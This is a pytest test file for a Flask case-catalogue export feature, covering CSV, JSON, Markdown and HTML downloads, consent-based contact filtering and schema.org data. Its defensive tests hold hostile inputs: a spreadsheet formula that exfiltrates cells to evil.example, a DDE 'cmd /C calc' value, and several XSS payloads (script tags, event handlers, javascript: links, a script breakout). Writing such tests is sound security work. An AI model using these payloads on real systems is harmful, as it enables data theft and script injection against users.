"""The exports plugin: a case or a search's results as JSON, CSV, Markdown and a printable
page, the links to them, and schema.org data in case pages."""

from __future__ import annotations

import csv
import io
import json
import re
from urllib.parse import unquote

import pytest
from flask.testing import FlaskClient
from markdown_it import MarkdownIt
from sqlalchemy import select
from werkzeug.test import TestResponse

from kb.database import write_transaction
from kb.extensions import db
from kb.models import (
    Case,
    CaseContact,
    CaseStatus,
    KeyFigure,
    Material,
    Organisation,
    Person,
    Role,
)
from kb.services import accounts, catalogue
from kb.services.exchange.exporter import case_record
from kb.services.exchange.importer import plan_import, read_document
from kb.services.exchange.schema import FORMAT_NAME
from kb.services.exchange.tabular import BOM, neutralise
from tests.web_helpers import GOOD_PASSWORD, login

FORMATS = {
    "json": ("application/json", "json", "attachment"),
    "csv": ("text/csv", "csv", "attachment"),
    "markdown": ("text/markdown", "md", "attachment"),
    "html": ("text/html", "html", "inline"),
}
SHOWN = {"name": "Kari Nordmann", "email": "kari@naeroy.example", "phone": "+47 900 00 001"}
HIDDEN = {"name": "Ola Skjult", "email": "ola@hidden.example", "phone": "+47 900 00 002"}
LD_JSON = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)


@pytest.fixture
def slug(demo: None) -> str:
    """Case c04, with a contact who consented, one who did not, a key figure and a link."""
    with write_transaction():
        case = db.session.scalar(select(Case).where(Case.ref == "c04"))
        organisation = db.session.scalar(
            select(Organisation).where(Organisation.slug == "nordregio")
        )
        for position, (who, consent) in enumerate([(SHOWN, True), (HIDDEN, False)]):
            person_slug = who["name"].lower().replace(" ", "-")
            person = Person(slug=person_slug, organisation=organisation, **who)
            db.session.add(person)
            person.set_consent(consent)
            case.contacts.append(
                CaseContact(person=person, role="prosjektleder", position=position)
            )
        case.key_figures.append(KeyFigure(label="i arbeid etter to år", value=80, unit="%"))
        case.materials.append(
            Material(kind="report", title="Sluttrapport", url="https://example.org/rapport.pdf")
        )
        return case.slug


def download(client: FlaskClient, url: str, key: str) -> TestResponse:
    """The response, checked to be a download of that format."""
    response = client.get(url, headers={"Accept-Language": "en"})
    media_type, extension, disposition = FORMATS[key]
    assert response.status_code == 200, (url, response.status_code)
    assert response.mimetype == media_type
    assert response.headers["Content-Disposition"].startswith(f"{disposition}; filename=")
    assert response.headers["Content-Disposition"].endswith(f'.{extension}"')
    return response


def csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


def test_the_json_download_is_the_public_record_and_imports_back(
    client: FlaskClient, slug: str
) -> None:
    response = download(client, f"/cases/{slug}/export/json", "json")
    document = json.loads(response.text)
    db.session.rollback()

    assert response.headers["Content-Disposition"] == f'attachment; filename="{slug}.json"'
    assert document["format"] == FORMAT_NAME
    assert document["cases"] == [case_record(catalogue.published_case(slug), public=True)]
    plan = plan_import(read_document(response.data))
    assert [case.ref for case in plan.cases] == ["c04"]


def test_the_csv_download_opens_in_a_spreadsheet_as_plain_text(
    client: FlaskClient, slug: str
) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    with write_transaction():
        case = db.session.scalar(select(Case).where(Case.slug == slug))
        case.title, case.summary, case.region = hostile, "+1 (555) 0100", "@SUM(1+1)"

    response = download(client, f"/cases/{slug}/export/csv", "csv")
    [row] = csv_rows(response.text)

    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in response.data
    assert row["title"] == "'" + hostile
    assert row["summary"] == "'+1 (555) 0100"
    assert row["region"] == "'@SUM(1+1)"
    assert row["municipality"].startswith("Nærøy")
    assert row["ref"] == "c04" and row["url"] == f"http://localhost/cases/{slug}"
    assert "employment" in row["themes"].split("; ")


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "-2+3 cmd|' /C calc'!A0"],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Nærøy", "2012-2018", "", "a=b", "'=already"])
def test_ordinary_cells_are_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_the_markdown_download_reads_as_a_document(client: FlaskClient, slug: str) -> None:
    response = download(client, f"/cases/{slug}/export/markdown", "markdown")
    text = response.text

    assert response.headers["Content-Type"] == "text/markdown; charset=utf-8"
    assert text.startswith("# Nærøy: hurtigspor fra første dag")
    assert "- **Country:** Norway" in text
    assert "\n## Background\n\nYtre Namdal" in text
    assert "\n## Description\n\nTiltak: Allerede" in text
    assert "\n## Lessons learned\n\nTidlig avklaring" in text
    assert "- i arbeid etter to år: **80 %** (Figure from those behind the case)" in text
    assert "[Sluttrapport](<https://example.org/rapport.pdf>)" in text
    assert f"<http://localhost/cases/{slug}>" in text
    assert f"**{SHOWN['name']}**, prosjektleder" in text and SHOWN["email"] in text


HOSTILE_BODY = """Before <script>alert(1)</script> after.

<img src=x onerror=alert(2)>

[Click](javascript:alert(3)) and [also](JaVa&#115;cript:alert(4)) and [fine](https://example.org/).

[ref]: javascript:alert(5)

```
<b>code stays as written</b>
```
"""


def test_the_markdown_download_holds_no_executable_html_or_script_link(
    client: FlaskClient, slug: str
) -> None:
    """Rendered by a permissive Markdown renderer (raw HTML on, any link scheme), the
    download has no HTML element but the code block's text, and no javascript: link."""
    with write_transaction():
        case = db.session.scalar(select(Case).where(Case.slug == slug))
        case.body = HOSTILE_BODY
        case.outcomes = "<iframe src=javascript:alert(6)></iframe>"
        case.title = "Nærøy <em onmouseover=alert(7)>x</em>"

    text = download(client, f"/cases/{slug}/export/markdown", "markdown").text
    permissive = MarkdownIt("commonmark")
    permissive.validateLink = lambda _url: True
    html = permissive.render(text)

    assert not re.search(r"<(script|img|iframe|em)\b", html, re.I)
    links = re.findall(r'href="([^"]*)"', html)
    assert links and not [link for link in links if "script" in unquote(link).lower()]
    assert "&lt;b&gt;code stays as written&lt;/b&gt;" in html
    assert "Before &lt;script&gt;alert(1)&lt;/script&gt; after." in html  # kept as text


def test_the_printable_page_is_standalone_and_marks_languages(
    client: FlaskClient, slug: str
) -> None:
    html = download(client, f"/cases/{slug}/export/html", "html").text
    stylesheet = re.search(r'<link rel="stylesheet" href="([^"]+)">', html).group(1)

    assert '<html lang="en">' in html
    assert '<h1 lang="nb">Nærøy: hurtigspor' in html
    assert '<div class="prose" lang="nb"><p>Ytre Namdal' in html
    assert f'<a href="http://localhost/cases/{slug}">' in html
    assert '<a href="https://example.org/rapport.pdf"' in html
    assert SHOWN["name"] in html and f'href="mailto:{SHOWN["email"]}"' in html
    assert "i arbeid etter to år" in html
    assert "<script" not in html and "style=" not in html and "<style" not in html
    with client.get(stylesheet) as css:
        assert css.status_code == 200 and css.mimetype == "text/css"
        assert b"@media print" in css.data


def test_a_list_prints_each_case_under_one_heading(client: FlaskClient, demo: None) -> None:
    html = download(client, "/search/export/html?q=flyktning&country=NO", "html").text
    total = client.get("/api/v1/search?q=flyktning&country=NO").json["total"]

    assert f"<h1>{total} cases found</h1>" in html
    assert html.count('<article class="case">') == total
    assert html.count("<h2 lang=") == total


def test_contact_details_are_only_in_downloads_with_consent(client: FlaskClient, slug: str) -> None:
    pages = {key: download(client, f"/cases/{slug}/export/{key}", key).text for key in FORMATS}
    pages["json-ld"] = LD_JSON.search(client.get(f"/cases/{slug}").text).group(1)

    for key, text in pages.items():
        # As on the case page: every contact's name, details only with consent.
        assert HIDDEN["email"] not in text and HIDDEN["phone"] not in text, key
        if key != "csv":
            assert HIDDEN["name"] in text and SHOWN["name"] in text, key
            assert SHOWN["email"] in text, key


def test_a_search_download_holds_exactly_the_search_matches(
    client: FlaskClient, demo: None
) -> None:
    query = "q=flyktning&country=NO&sort=newest"
    api = client.get(f"/api/v1/search?{query}&per_page=100").json
    expected = [hit["id"] for hit in api["results"]]

    rows = csv_rows(download(client, f"/search/export/csv?{query}&page=3", "csv").text)
    document = json.loads(download(client, f"/search/export/json?{query}", "json").text)

    assert 1 < len(expected) < 100
    assert [int(row["id"]) for row in rows] == expected
    assert [case["ref"] for case in document["cases"]] == [hit["ref"] for hit in api["results"]]
    assert client.get("/search/export/csv?country=XX").status_code == 400


def test_the_search_page_links_to_downloads_of_its_results(client: FlaskClient, demo: None) -> None:
    html = client.get("/search?q=flyktning&country=NO&per_page=5&page=2").text
    empty = client.get("/search?q=zzzzqqq").text

    assert "Download these results as:" in html
    for key in FORMATS:
        assert f'href="/search/export/{key}?q=flyktning&amp;country=NO&amp;per_page=5"' in html
    assert "/search/export/" not in empty


def test_the_case_page_links_to_every_download(client: FlaskClient, slug: str) -> None:
    html = client.get(f"/cases/{slug}", headers={"Accept-Language": "en"}).text
    links = re.findall(rf'href="(/cases/{slug}/export/(\w+))">([^<]+)</a>', html)

    assert "Download this case" in html
    assert {key: label for _url, key, label in links} == {
        "json": "JSON",
        "csv": "CSV",
        "markdown": "Markdown",
        "html": "Printable page",
    }
    for url, key, _label in links:
        download(client, url, key)


def test_the_case_page_describes_the_case_for_search_engines(
    client: FlaskClient, slug: str
) -> None:
    data = json.loads(LD_JSON.search(client.get(f"/cases/{slug}").text).group(1))

    assert data["@context"] == "https://schema.org" and data["@type"] == "Article"
    assert data["name"].startswith("Nærøy: hurtigspor") and data["inLanguage"] == "nb"
    assert data["url"] == f"http://localhost/cases/{slug}"
    assert data["datePublished"].endswith("+00:00")
    assert data["temporalCoverage"] == "2012/2018"
    assert data["spatialCoverage"]["address"]["addressCountry"] == "NO"
    assert {"@type": "DefinedTerm", "name": "Employment", "termCode": "employment"} in data["about"]
    contributors = {person["name"]: person for person in data["contributor"]}
    assert contributors[SHOWN["name"]]["email"] == SHOWN["email"]
    assert "email" not in contributors[HIDDEN["name"]]
    assert "Nyanlända i jobb – en tillväxtfaktor för kommuner" in [
        event["name"] for event in data["subjectOf"]
    ]


def test_a_title_cannot_break_out_of_the_structured_data(client: FlaskClient, slug: str) -> None:
    title = "</script><script>alert(1)</script> & <!-- x"
    with write_transaction():
        db.session.scalar(select(Case).where(Case.slug == slug)).title = title

    html = client.get(f"/cases/{slug}").text

    assert "<script>alert(1)" not in html
    assert html.count("<script") == html.count("</script>") == 1
    assert json.loads(LD_JSON.search(html).group(1))["name"] == title


def test_structured_data_is_only_on_the_public_case_page(client: FlaskClient, slug: str) -> None:
    accounts.set_password(accounts.create_user("editor@example.org", Role.EDITOR), GOOD_PASSWORD)
    case_id = db.session.scalar(select(Case.id).where(Case.slug == slug))
    assert login(client, "editor@example.org", GOOD_PASSWORD).status_code == 302

    assert "application/ld+json" in client.get(f"/cases/{slug}").text
    assert "application/ld+json" not in client.get(f"/editor/cases/{case_id}").text
    assert "application/ld+json" not in client.get("/search?q=flyktning").text


@pytest.mark.parametrize("key", FORMATS)
def test_an_unpublished_case_has_no_downloads(client: FlaskClient, slug: str, key: str) -> None:
    with write_transaction():
        db.session.scalar(select(Case).where(Case.slug == slug)).status = CaseStatus.SUBMITTED

    assert client.get(f"/cases/{slug}/export/{key}").status_code == 404


def test_an_unknown_format_is_not_found(client: FlaskClient, slug: str) -> None:
    assert client.get(f"/cases/{slug}/export/xlsx").status_code == 404
    assert client.get("/search/export/xlsx?q=flyktning").status_code == 404
